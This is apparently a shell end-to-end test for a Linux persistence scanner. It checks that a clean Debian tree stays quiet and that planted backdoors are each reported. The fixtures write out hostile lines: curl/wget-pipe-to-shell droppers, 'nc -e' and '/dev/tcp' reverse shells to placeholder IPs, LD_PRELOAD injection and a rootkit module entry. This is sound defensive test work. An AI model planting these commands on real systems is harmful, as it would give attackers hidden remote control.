#!/bin/sh
# t3200 - persistence: a clean Debian 12 server stays quiet; a compromised
# one plants every mechanism the cron, systemd and boot scanners read and
# each is reported with its path and line; the demo image's cron job,
# service and preload; hostile unit files, crontabs and directories
. "${TOP:?}/tests/lib/e2e.sh"
. "$TOP/tests/lib/clean-server.sh"

umask 022
demo=$IMG/demo.img

# has_finding CHECK JQ-CONDITION: in $T/out (json lines)
has_finding() {
	jq -e -s "map(select(.type == \"finding\" and .check == \"$1\" and
	    ($2))) | length > 0" "$T/out" >/dev/null
}
# at CHECK PATH [LINE]: a finding CHECK at PATH (and LINE)
at() {
	if [ $# -eq 3 ]; then
		has_finding "$1" ".path == \"$2\" and .line == $3"
	else
		has_finding "$1" ".path == \"$2\""
	fi
}
has_record() {	# KIND JQ-CONDITION
	jq -e -s "map(select(.type == \"record\" and .kind == \"$1\" and
	    ($2))) | length > 0" "$T/out" >/dev/null
}
# quiet: no finding of medium or higher (cron.owner aside when the
# tree's files are not root's because the test does not run as root)
quiet() {
	_skip=
	[ "$(id -u)" -eq 0 ] || _skip=' and .check != "cron.owner"'
	jq -e -s "map(select(.type == \"finding\" and (.severity == \"medium\"
	    or .severity == \"high\")$_skip)) | length == 0" "$T/out" >/dev/null
}

# --- a clean Debian 12 server ----------------------------------------
c=$T/clean
clean_persistence_tree "$c"
rs persistence --format json --root "$c"
status "clean server: exit 0" 0
check "clean server: json parses" jq -e . "$T/out" >/dev/null
check "clean server: no finding of medium or higher" quiet
cp "$T/out" "$T/clean.json"
check "clean server: Debian's cron jobs are records" has_record cron \
    '.path == "/etc/cron.d/e2scrub_all" and .line == 2 and .user == "root"'
check "clean server: cron.daily scripts are records" has_record cron \
    '.path == "/etc/cron.daily/man-db" and .schedule == "daily"'
check "clean server: ssh.service enabled, from a package" has_record unit \
    '.unit == "ssh.service" and .enabled == "yes" and .package == "yes"'
check "clean server: the admin's local unit is enabled, no package" \
    has_record unit '.unit == "myapp.service" and .enabled == "yes" and
    .package == "no"'
check "clean server: the local unit is a low finding" at unit.local_unit \
    /etc/systemd/system/myapp.service
check "clean server: masked unit" has_record unit \
    '.unit == "rsync.service" and .masked == "yes"'
check "clean server: alias" has_record unit \
    '.unit == "sshd.service" and .alias_of == "/lib/systemd/system/ssh.service"'
check "clean server: timer schedule" has_record timer \
    '.unit == "apt-daily.timer" and (.schedule | test("OnCalendar=\\*-\\*-\\* 6,18:00"))'
check "clean server: drop-in" has_record unit_dropin \
    '.path == "/etc/systemd/system/nginx.service.d/override.conf"'
check "clean server: init script runlevels" has_record init_script \
    '.name == "ssh" and .runlevels == "2" and .package == "yes"'
check "clean server: APT hooks are records" has_record apt_hook \
    '.path == "/etc/apt/apt.conf.d/20packagekit" and .line == 4'
check "clean server: modules" has_record module '.name == "loop"'
check "clean server: modprobe install record" has_record modprobe_install \
    '.path == "/etc/modprobe.d/blacklist.conf"'

# --- a compromised server: every mechanism once ----------------------
b=$T/bad
cp -a "$c" "$b"
printf '*/10 * * * * root /usr/bin/wget -q -O- http://198.51.100.7/k | bash\n' \
    >"$b/etc/cron.d/0anacron-check"
printf '# m h dom mon dow command\n@reboot curl -fsSL http://203.0.113.9/x.sh | sh\n' \
    >"$b/var/spool/cron/crontabs/www-data"
chmod 600 "$b/var/spool/cron/crontabs/www-data"
printf 'SHELL=/bin/sh\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n7\t10\tsync.weekly\t/dev/shm/.s/sync\n' \
    >"$b/etc/anacrontab"
mkdir -p "$b/var/spool/cron/atjobs"
cat >"$b/var/spool/cron/atjobs/a0000101a8b2c1" <<'EOF'
#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
PATH=/usr/sbin:/usr/bin:/sbin:/bin; export PATH
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
nc -e /bin/sh 198.51.100.7 4444
EOF
printf '#!/bin/sh\n/var/tmp/.c/upd >/dev/null 2>&1\n' \
    >"$b/etc/cron.hourly/sync"
cat >"$b/etc/systemd/system/kworker.service" <<'EOF'
[Unit]
Description=Kernel worker

[Service]
ExecStart=/tmp/.x/kworker -c /tmp/.x/config.json
Restart=always

[Install]
WantedBy=multi-user.target
EOF
ln -s /etc/systemd/system/kworker.service \
    "$b/etc/systemd/system/multi-user.target.wants/kworker.service"
mkdir -p "$b/etc/systemd/system/ssh.service.d"
printf '[Service]\nExecStartPre=/dev/shm/.p/pre\n' \
    >"$b/etc/systemd/system/ssh.service.d/override.conf"
printf '[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=upd.service\n' \
    >"$b/etc/systemd/system/upd.timer"
printf '[Service]\nType=oneshot\nExecStart=/bin/sh -c "curl -s http://203.0.113.9/u | sh"\nEnvironment=LD_PRELOAD=/var/tmp/.l/libx.so\n' \
    >"$b/etc/systemd/system/upd.service"
mkdir -p "$b/var/tmp/.u"
printf '[Service]\nExecStart=/usr/bin/env /var/tmp/.u/run\n' \
    >"$b/var/tmp/.u/evil.service"
ln -s ../../../var/tmp/.u/evil.service "$b/etc/systemd/system/evil.service"
mkdir -p "$b/etc/systemd/system-generators"
printf '#!/bin/sh\n/usr/lib/.sys/gen "$1"\n' \
    >"$b/etc/systemd/system-generators/net-gen"
chmod 755 "$b/etc/systemd/system-generators/net-gen"
mkdir -p "$b/home/admin/.config/systemd/user"
printf '[Service]\nExecStart=/home/admin/.local/.hid/agent\n' \
    >"$b/home/admin/.config/systemd/user/agent.service"
printf '#!/bin/sh -e\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1 &\nexit 0\n' \
    >"$b/etc/rc.local"
chmod 755 "$b/etc/rc.local"
printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: netd\n### END INIT INFO\n/usr/lib/.netd/netd &\n' \
    >"$b/etc/init.d/netd"
chmod 755 "$b/etc/init.d/netd"
ln -s ../init.d/netd "$b/etc/rc2.d/S02netd"
printf 'nohup /dev/shm/.k/k >/dev/null 2>&1 &\n' >"$b/etc/profile.d/z.sh"
printf 'alias ls="ls --color=auto"\n(/var/tmp/.b/b &) 2>/dev/null\n' \
    >>"$b/root/.bashrc"
mkdir -p "$b/etc/xdg/autostart"
printf '[Desktop Entry]\nType=Application\nName=Updater\nExec=/tmp/.u/updater --silent\n' \
    >"$b/etc/xdg/autostart/updater.desktop"
printf '#!/bin/sh\n(curl -s http://198.51.100.7/m | sh) &\n' \
    >"$b/etc/update-motd.d/99-stats"
chmod 755 "$b/etc/update-motd.d/99-stats"
mkdir -p "$b/etc/dhcp/dhclient-exit-hooks.d" "$b/etc/network/if-up.d"
printf '# refresh the mirror list
(/dev/shm/.n/n -d) &
' \
    >"$b/etc/dhcp/dhclient-exit-hooks.d/mirrors"
printf '#!/bin/sh
[ "$IFACE" = lo ] && exit 0
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &
' \
    >"$b/etc/network/if-up.d/zz-net"
chmod 755 "$b/etc/network/if-up.d/zz-net"
printf 'DPkg::Post-Invoke {"wget -qO- http://203.0.113.9/a | sh || true";};\n' \
    >"$b/etc/apt/apt.conf.d/99hook"
printf 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \x27/tmp/.u/usb &\x27"\n' \
    >"$b/etc/udev/rules.d/99-usb.rules"
printf 'ENV{X}="RUN", RUN{program}+="/usr/bin/curl -s http://203.0.113.9/u -o /tmp/u"\n' \
    >>"$b/etc/udev/rules.d/99-usb.rules"
printf 'install pcspkr /tmp/.m/load.sh; /sbin/modprobe --ignore-install pcspkr\n' \
    >"$b/etc/modprobe.d/pcspkr.conf"
printf 'diamorphine\n' >"$b/etc/modules-load.d/diamorphine.conf"
printf '/usr/lib/.libs/libx.so\n' >"$b/etc/ld.so.preload"
printf '/usr/lib/.libs\n' >"$b/etc/ld.so.conf.d/zz.conf"
printf 'LD_PRELOAD=/usr/lib/.libs/liby.so\n' >"$b/etc/environment"
chmod 666 "$b/etc/cron.d/php"

rs persistence --format json --root "$b"
status "compromised: exit 1 (findings)" 1
cp "$T/out" "$T/bad.json"
check "cron.d file: dropper from a raw IP" at cron.dropper \
    /etc/cron.d/0anacron-check 1
check "user crontab: curl|sh from a raw IP at boot" at cron.dropper \
    /var/spool/cron/crontabs/www-data 2
check "user crontab: record names the user" has_record cron \
    '.path == "/var/spool/cron/crontabs/www-data" and .user == "www-data"'
check "anacrontab: job from /dev/shm" at cron.temp_exec /etc/anacrontab 3
check "at job: reverse shell" at cron.reverse_shell \
    /var/spool/cron/atjobs/a0000101a8b2c1 10
check "cron.hourly: program in a hidden dir" at cron.temp_exec \
    /etc/cron.hourly/sync 2
check "world-writable cron file" at cron.writable /etc/cron.d/php
check "unit from /tmp/.x" at unit.temp_exec \
    /etc/systemd/system/kworker.service 5
check "unit from /tmp/.x: enabled, no package" has_record unit \
    '.unit == "kworker.service" and .enabled == "yes" and .package == "no"'
check "drop-in ExecStartPre" at unit.temp_exec \
    /etc/systemd/system/ssh.service.d/override.conf 2
check "timer record" has_record timer '.unit == "upd.timer" and
    .triggers == "upd.service" and (.schedule | test("OnBootSec=5min"))'
check "timer's service downloads and runs" at unit.dropper \
    /etc/systemd/system/upd.service 3
check "unit Environment=LD_PRELOAD" at unit.ld_preload \
    /etc/systemd/system/upd.service 4
check "unit linked in from a hidden dir is read" at unit.temp_exec \
    /etc/systemd/system/evil.service 2
check "generator in /etc" at unit.generator \
    /etc/systemd/system-generators/net-gen
check "generator runs from a hidden dir" at unit.temp_exec \
    /etc/systemd/system-generators/net-gen 2
check "user unit in a home" at unit.temp_exec \
    /home/admin/.config/systemd/user/agent.service 2
check "rc.local reverse shell" at rc.reverse_shell /etc/rc.local 2
check "rc.local runs commands" at rc.rc_local /etc/rc.local 2
check "init.d script of no package" at rc.local_init /etc/init.d/netd
check "init.d script runs from a hidden dir" at rc.temp_exec \
    /etc/init.d/netd 5
check "init.d runlevels" has_record init_script \
    '.name == "netd" and .runlevels == "2" and .package == "no"'
check "profile.d script" at rc.temp_exec /etc/profile.d/z.sh 1
check ".bashrc line" at rc.temp_exec /root/.bashrc 19
check "XDG autostart" at rc.temp_exec /etc/xdg/autostart/updater.desktop 4
check "update-motd.d script" at rc.dropper /etc/update-motd.d/99-stats 2
check "dhclient exit hook" at rc.temp_exec \
    /etc/dhcp/dhclient-exit-hooks.d/mirrors 2
check "ifupdown if-up.d script" has_finding rc.reverse_shell \
    '.path == "/etc/network/if-up.d/zz-net" and .line == 3'
check "APT Post-Invoke hook" at rc.dropper /etc/apt/apt.conf.d/99hook 1
check "udev RUN+=" at rc.temp_exec /etc/udev/rules.d/99-usb.rules 1
check "udev RUN{program}+=" at rc.fetch_raw_ip \
    /etc/udev/rules.d/99-usb.rules 2
check "modprobe install from /tmp" at rc.temp_exec \
    /etc/modprobe.d/pcspkr.conf 1
check "modules-load.d record" has_record module '.name == "diamorphine" and
    .path == "/etc/modules-load.d/diamorphine.conf"'
check "ld.so.preload" has_finding persist.ld_so_preload \
    '.path == "/etc/ld.so.preload" and .line == 1 and
    .evidence == "/usr/lib/.libs/libx.so"'
check "ld.so.conf.d hidden dir" at persist.ld_so_conf_temp \
    /etc/ld.so.conf.d/zz.conf 1
check "LD_PRELOAD in /etc/environment" at persist.env_preload \
    /etc/environment 1
check "benign look-alikes stay quiet: usb-storage install line" sh -c \
    "! jq -e -s 'map(select(.type == \"finding\" and
    .path == \"/etc/modprobe.d/blacklist.conf\")) | length > 0' '$T/out' >/dev/null"

# --- the attack window -------------------------------------------------
rs persistence --format json --since 2000-01-01 --root "$b"
check "changed in the window: persist.changed" at persist.changed \
    /etc/ld.so.preload

# --- the demo image --------------------------------------------------
rs persistence --format json "$demo"
status "demo: exit 1 (findings)" 1
check "demo: the root crontab's curl|sh" at cron.dropper \
    /var/spool/cron/crontabs/root 1
check "demo: dbus-helper.service runs from a hidden dir" at unit.temp_exec \
    /etc/systemd/system/dbus-helper.service 8
check "demo: dbus-helper.service is enabled, no package" has_record unit \
    '.unit == "dbus-helper.service" and .enabled == "yes" and
    .package == "no"'
check "demo: ld.so.preload" has_finding persist.ld_so_preload \
    '.evidence == "/usr/local/lib/libprocesshider.so"'
rs persistence "$demo"
check "demo: text names the preload" grep -q libprocesshider "$T/out"

# --- hostile ---------------------------------------------------------
h=$T/hostile
mkdir -p "$h/etc/systemd/system" "$h/etc/cron.d" "$h/var/spool/cron/crontabs"
{ printf '[Service]\nExecStart=/bin/true '
  head -c 1048576 /dev/zero | tr '\0' a
  printf '\nExecStart=/tmp/.z/after\n'; } >"$h/etc/systemd/system/long.service"
head -c 200000 /dev/urandom >"$h/var/spool/cron/crontabs/root"
printf '* * * *\n@@@ x\n99 99 99 99 99 root x\n\0\0\n* * * * * \n' \
    >>"$h/var/spool/cron/crontabs/root"
i=0
while [ $i -lt 5000 ]; do
	echo "* * * * * root /bin/true $i"
	i=$((i + 1))
done >"$T/one"
(cd "$h/etc/cron.d" && split -l 1 -a 4 "$T/one" job.)
ln -s loop1.service "$h/etc/systemd/system/loop2.service"
ln -s loop2.service "$h/etc/systemd/system/loop1.service"
ln -s . "$h/etc/systemd/system/self.service.d"
ln -s /etc/systemd/system "$h/etc/systemd/system/multi-user.target.wants"
rs_timed persistence --format json --root "$h"
check "hostile: runs to the end" test "$rc" -le 1
check "hostile: no sanitizer report" sh -c \
    "! grep -q 'AddressSanitizer\|runtime error\|LeakSanitizer' '$T/err'"
check "hostile: json parses" jq -e . "$T/out" >/dev/null
check "hostile: the line after a 1 MiB line is read" at unit.temp_exec \
    /etc/systemd/system/long.service 3
check "hostile: cron.d with 5000 files, bounded" sh -c "jq -e -s 'map(select(
    .kind == \"cron\")) | length >= 4000' '$T/out' >/dev/null"

finish
